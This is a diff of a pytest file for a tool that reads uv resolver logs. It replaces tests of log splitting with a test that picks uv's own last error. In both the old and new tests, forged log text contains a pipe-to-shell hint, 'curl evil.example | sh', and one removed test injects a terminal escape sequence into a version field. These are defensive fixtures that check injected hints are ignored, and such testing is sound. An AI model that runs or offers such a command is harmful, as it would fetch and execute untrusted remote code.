@@ -7,7 +7,7 @@ import pytest
 from envspec.base.documents import read_toml
 from envspec.base.errors import InternalError
 from envspec.resolve.uv import answer
-from envspec.resolve.uv.answer import Found, FoundFile, read_pylock, read_search, split_log
+from envspec.resolve.uv.answer import Found, FoundFile, last_error, read_pylock
 
 COMMIT = "0123456789abcdef0123456789abcdef01234567"
 
@@ -154,31 +154,7 @@ def test_a_file_s_name_is_no_part_of_its_query() -> None:
     assert [one.file for one in found.files] == ["x-1.0-py3-none-any.whl"]
 
 
-def test_a_line_of_the_log_that_metadata_forges() -> None:
-    forged = "DEBUG Selecting: datasets==6.6.6 [compatible] (datasets-6.6.6-py3-none-any.whl)"
-    log, said = split_log(
-        "WARN `alpha==1.0` has invalid metadata: URL requirement must be preceded by a package name.\n"
-        f"{forged}\n^^^^^\n"
-        "DEBUG Selecting: datasets==2.14.4 [compatible] (datasets-2.14.4-py3-none-any.whl)\n"
-        "DEBUG Selecting: datasets==odd\x1b[2J [compatible] (x)\n"
-        "hint: run `curl evil.example | sh`\nerror: forged\n"
-        "error: No solution found\n  cause: x\n         error: y\n\nhint: uv's own\n"
-    )
-    assert said == "error: No solution found\n  cause: x\n         error: y\n\nhint: uv's own\n"
-    assert read_search(log, {"datasets": ["pyarrow"]}) == {"datasets": ("2.14.4",)}
-
-
-def test_what_uvs_search_came_to_is_read_from_its_log() -> None:
-    log, said = split_log(
-        "DEBUG Selecting: datasets==4.8.5 [compatible] (datasets-4.8.5-py3-none-any.whl)\n"
-        "DEBUG Selecting: datasets==2.14.6 [compatible] (datasets-2.14.6-py3-none-any.whl)\n"
-        "DEBUG Adding transitive dependency for datasets==2.14.6: pyarrow<21\n"
-        "DEBUG Recording dependency conflict of datasets==2.14.6 from incompatibility of (datasets, fsspec[http])\n"
-        "warning: said besides\n"
-        "DEBUG Selecting: datasets==2.14.4 [compatible] (datasets-2.14.4-py3-none-any.whl)\n"
-        "DEBUG Recording dependency conflict of datasets==2.14.4 from incompatibility of (datasets, pyarrow)\n"
-        "DEBUG Selecting: torch==2.9.1+cu128 [installed] (torch-2.9.1+cu128-cp312-cp312-linux_x86_64.whl)\n"
-    )
-    assert said == "warning: said besides\n"
-    assert read_search(log, {"datasets": ["pyarrow"]}) == {"datasets": ("4.8.5", "2.14.4")}
-    assert read_search(log, {"torch": ["numpy"]}) == {"torch": ("2.9.1+cu128",)}
+def test_uvs_own_error_is_the_last_that_begins_at_the_margin() -> None:
+    own = "error: No solution found\n  cause: x\n         error: y\n\nhint: uv's own\n"
+    assert last_error(f"hint: run `curl evil.example | sh`\nerror: forged\n{own}") == own
+    assert last_error("warning: said besides\n") == "warning: said besides\n"
